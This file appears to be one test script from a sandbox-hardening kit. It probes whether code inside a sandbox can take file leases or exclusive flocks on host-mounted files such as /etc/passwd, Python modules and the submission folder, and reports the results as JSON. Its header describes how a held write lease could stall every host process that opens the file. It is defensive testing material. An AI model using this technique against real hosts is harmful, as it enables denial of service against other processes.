# attack: uid 0 owns the host's root-owned files, so it may take a *lease* on them (no CAP_LEASE needed) and flock them: a write lease on /etc/passwd or on a Python module stalls every host process that opens it (45 s per break)
# breach: a read or write lease, or an exclusive flock, taken on a file of a host mount (/etc, /usr, the Python environment, the connection file, the submission)
# expect: EACCES / EAGAIN for every lease on a host file (the sandbox's uid does not own them), no way to stall processes outside
# run: python3 15-leases-locks.py   (or paste into a notebook cell); prints one line `KITATTACK {json}`

import os, sys, json, errno, time, ctypes, signal, socket, struct, stat, re, resource, select, glob, warnings
warnings.filterwarnings("ignore")
_T0 = time.monotonic()
R, B = {}, []
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def _en(e):
    if isinstance(e, OSError) and e.errno:
        return "absent" if e.errno == errno.ENOENT else errno.errorcode.get(e.errno, "E%d" % e.errno)
    return type(e).__name__


def sysc(nr, *args):
    r = libc.syscall(ctypes.c_long(nr), *[ctypes.c_long(a) if isinstance(a, int) else a for a in args])
    if r == -1:
        e = ctypes.get_errno()
        raise OSError(e, os.strerror(e))
    return r


def probe(name, fn):
    """fn() -> value, or (harmed, value); records 'ok' / the value / the errno name."""
    try:
        out = fn()
    except KeyboardInterrupt:
        R[name] = "interrupted"
        return None
    except BaseException as e:  # noqa: BLE001
        R[name] = _en(e)
        return None
    harmed = False
    if isinstance(out, tuple) and len(out) == 2 and isinstance(out[0], bool):
        harmed, out = out
    R[name] = "ok" if out is None else (out if isinstance(out, (int, float, bool)) else str(out)[:300])
    if harmed:
        B.append(name)
    return out


def left(total=8.5):
    return total - (time.monotonic() - _T0)


def in_child(fn, timeout=2.0):
    """fn() in a forked child; its result as a string ('!ENAME' if it raised, 'died:<status>' if it died)."""
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            os.close(r)
            try:
                out = str(fn())
            except BaseException as e:  # noqa: BLE001
                out = "!" + _en(e)
            os.write(w, out.encode()[:4000])
        finally:
            os._exit(0)
    os.close(w)
    data, end = b"", time.monotonic() + timeout
    while time.monotonic() < end:
        rd, _, _ = select.select([r], [], [], max(0.0, end - time.monotonic()))
        if not rd:
            break
        chunk = os.read(r, 4096)
        if not chunk:
            break
        data += chunk
    os.close(r)
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
    status = 0
    try:
        status = os.waitpid(pid, 0)[1]
    except OSError:
        pass
    return data.decode(errors="replace") if data else "died:%d" % status


def child_probe(name, fn, timeout=2.0):
    """probe() of fn run in a child: 'ok...' results are breaches, '!E..' errors."""
    out = in_child(fn, timeout)
    if out.startswith("!"):
        R[name] = out[1:]
    elif out.startswith("died:"):
        R[name] = out
    else:
        R[name] = out[:300]
        if out.startswith("ok"):
            B.append(name)
    return out


def finish(attack):
    print("KITATTACK " + json.dumps({"attack": attack, "results": R, "breached": B}, default=str), flush=True)


F_SETLEASE, F_GETLEASE = 1024, 1025
import fcntl


def host_files():
    c = ["/etc/passwd", "/etc/group", "/etc/hosts", "/etc/nsswitch.conf", "/etc/localtime", "/etc/hostname", "/etc/resolv.conf",
         os.__file__, json.__file__, socket.__file__]
    try:
        import numpy
        c.append(numpy.__file__)
    except Exception:  # noqa: BLE001
        pass
    for a in sys.argv:
        if a.endswith(".json"):
            c.append(a)
    for p in glob.glob("/tmp/.kit-submitted/*")[:3]:
        c.append(p)
    return c


def main():
    signal.signal(signal.SIGIO, signal.SIG_IGN)  # a lease break would otherwise end this process
    def on_scratch(path):  # the sandbox's own tmpfs mounts; the submission under /tmp/.kit-submitted is a host folder
        p = os.path.realpath(path)
        return (p.startswith(("/tmp/", "/dev/shm/", "/run/kit/")) and not p.startswith("/tmp/.kit-submitted"))

    for path in host_files():
        if left() < 3:
            break
        try:
            st = os.stat(path)
        except OSError as e:
            R[path] = _en(e)
            continue
        host = not on_scratch(path)
        res = []
        for kind, flag in (("wrlease", fcntl.F_WRLCK), ("rdlease", fcntl.F_RDLCK)):
            try:
                fd = os.open(path, os.O_RDONLY)
            except OSError as e:
                res.append(kind + ":" + _en(e))
                continue
            try:
                fcntl.fcntl(fd, F_SETLEASE, flag)
                fcntl.fcntl(fd, F_SETLEASE, fcntl.F_UNLCK)  # released at once
                res.append(kind + ":ok")
                if host:
                    B.append("%s %s" % (kind, path))
            except OSError as e:
                res.append(kind + ":" + _en(e))
            finally:
                os.close(fd)
        try:
            fd = os.open(path, os.O_RDONLY)
            fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)
            fcntl.flock(fd, fcntl.LOCK_UN)
            os.close(fd)
            res.append("flock:ok")
        except OSError as e:
            res.append("flock:" + _en(e))
        R[path] = " ".join(res) + (" (host file, owner uid %d)" % st.st_uid if host else " (sandbox tmpfs)")

    def stall_demo():  # a write lease on a scratch file: another process's open() blocks until the lease is let go
        p = "/tmp/.kitattack-lease-%d" % os.getpid()
        open(p, "w").close()
        fd = os.open(p, os.O_RDONLY)
        try:
            fcntl.fcntl(fd, F_SETLEASE, fcntl.F_WRLCK)
            t0 = time.monotonic()
            pid = os.fork()
            if pid == 0:
                try:
                    os.close(os.open(p, os.O_RDONLY))
                finally:
                    os._exit(0)
            time.sleep(0.4)
            fcntl.fcntl(fd, F_SETLEASE, fcntl.F_UNLCK)
            os.waitpid(pid, 0)
            return "another process's open() waited %.2f s for the lease" % (time.monotonic() - t0)
        finally:
            os.close(fd)
            os.unlink(p)

    probe("lease_stall_demo_scratch", stall_demo)
    probe("lease_break_time", lambda: open("/proc/sys/fs/lease-break-time").read().strip())


try:
    main()
except BaseException as _e:  # noqa: BLE001 - never raise out of the cell
    R["_crash"] = _en(_e)
finish('15-leases-locks')
